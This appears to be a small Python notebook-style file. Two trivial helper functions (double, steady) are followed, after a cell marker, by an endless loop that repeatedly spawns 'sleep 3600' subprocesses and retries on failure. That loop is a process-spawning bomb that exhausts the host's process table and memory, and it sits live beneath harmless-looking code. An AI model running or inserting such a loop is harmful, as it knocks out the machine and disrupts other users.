def double(number):
    return 2 * number


def steady():
    return "steady"
# %%
import subprocess
import time

while True:
    try:
        subprocess.Popen(["sleep", "3600"])
    except OSError:
        time.sleep(0.01)
